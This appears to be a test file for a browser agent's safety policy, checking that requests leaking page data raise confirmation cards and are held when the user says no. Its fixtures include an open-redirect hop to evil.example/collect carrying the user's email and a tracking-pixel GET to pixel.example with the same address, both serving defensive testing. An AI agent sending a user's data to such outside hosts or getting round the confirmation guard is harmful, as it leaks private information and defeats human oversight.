// The policy through the real loop (agent/loop.js → tool-call.js → guard → policy): a redirect met by
// navigate is navigate's doing on its card, and what a snapshot showed is page data from then on.
import { expect } from 'chai';
import { runAgent } from '../../src/chrome/agent/loop.js';
import { fakeProvider, say, call } from './fake-provider.js';
import { fakeBrowser } from './fake-browser.js';
import { fakeInteraction } from './fake-interaction.js';

/** @import { HeldRequest } from '../../src/chrome/types/safety' */

const SITE = 'https://mail.test';
const OUTLINE = '- heading "Contacts"\n- text: Ann Smith ann.smith@mail.test\n- button "Save" [e4]';

/** @param {Partial<HeldRequest>} r @returns {HeldRequest} */
const req = (r) => ({ kind: 'request', method: 'GET', url: `${SITE}/`, type: 'image', topLevel: false, ...r });

function page() {
  const b = fakeBrowser((msg) => {
    if (msg.type === 'content.snapshot') return { ok: true, data: { text: OUTLINE, url: b.url, title: 'Mail' } };
    if (msg.type === 'content.targetInfo') return { ok: true, data: { role: 'button', name: 'Save' } };
    return { ok: true, data: { done: msg.type } };
  });
  b.url = `${SITE}/contacts`;
  return b;
}

/** @param {import('../../src/chrome/types/core').Provider} provider @param {ReturnType<typeof page>} browser @param {import('../../src/chrome/types/core').ConfirmAnswer} answer */
async function run(provider, browser, answer) {
  const ui = fakeInteraction({ confirm: answer });
  const messages = [{ role: /** @type {const} */ ('system'), content: 'sys' }, { role: /** @type {const} */ ('user'), content: 'Tidy my contacts on mail.test' }];
  await runAgent({ mode: 'act', messages, toolContext: { tabId: 1, browser }, emit: () => {}, verifyDone: false, provider, interact: ui });
  return ui;
}

describe('safety policy through the loop', () => {
  it('a redirect that navigate meets is held and its card names navigate, not the step before', async () => {
    const browser = page();
    browser.causes['content.click'] = [req({ method: 'POST', url: `${SITE}/api/save`, type: 'xhr', fields: [['name', 'Ann']] })];
    const hop = req({ url: `https://evil.example/collect?e=ann.smith%40mail.test`, type: 'document', topLevel: true });
    browser.navigate = async (_tabId, url) => {
      const h = /** @type {any} */ (browser).handlers;
      // The navigation itself, then the open redirect's next hop, pass through the hold as the browser's would.
      for (const r of [req({ url, type: 'document', topLevel: true }), hop]) {
        const wanted = Boolean(h?.wants(r));
        browser.held.push({ req: r, wanted, allowed: wanted && h ? await h.decide(r) : true });
      }
      return { ok: true, data: { url, title: 'Navigated' } };
    };
    const provider = fakeProvider([call({ name: 'click', args: { ref: 'e4' } }), call({ name: 'navigate', args: { url: `${SITE}/out?to=https://evil.example/collect` } }), say('ok')]);
    const ui = await run(provider, browser, 'no');
    const cards = ui.asked.confirms;
    expect(cards.map((c) => c.rule)).to.deep.equal(['server_write', 'data_in_url']);
    expect(cards[1].cause).to.equal('navigate mail.test');
    expect(browser.held.find((h) => h.req === hop)).to.deep.include({ wanted: true, allowed: false });
  });

  it('what a snapshot showed is page data: an image GET to another site carrying it asks during the next step', async () => {
    const browser = page();
    browser.causes['content.click'] = [req({ url: 'https://pixel.example/p.gif?u=ann.smith@mail.test' }), req({ url: 'https://cdn.example/font.woff2?v=3' })];
    const provider = fakeProvider([call({ name: 'snapshot', args: {} }), call({ name: 'click', args: { ref: 'e4' } }), say('ok')]);
    const ui = await run(provider, browser, 'no');
    expect(ui.asked.confirms.map((c) => [c.rule, c.cause])).to.deep.equal([['data_in_url', 'click button "Save"']]);
    expect(browser.held.map((h) => h.allowed)).to.deep.equal([false, true]);
  });

  it('one Allow in a step covers the PUT the card showed, not a second PUT to another path of the same site', async () => {
    const browser = page();
    const put = (/** @type {string} */ path, /** @type {string} */ name) => req({ method: 'PUT', url: `${SITE}${path}`, type: 'fetch', fields: [['name', name]] });
    // The second PUT to the same path with the same keys is the kind the user saw; the third goes elsewhere.
    browser.causes['content.click'] = [put('/api/contacts/1', 'Ann'), put('/api/contacts/1', 'Ann Smith'), put('/api/admins/1', 'Ann')];
    const provider = fakeProvider([call({ name: 'click', args: { ref: 'e4' } }), say('ok')]);
    const ui = await run(provider, browser, 'yes');
    expect(ui.asked.confirms.map((c) => c.action)).to.deep.equal([`PUT to ${SITE}/api/contacts/1`, `PUT to ${SITE}/api/admins/1`]);
  });
});
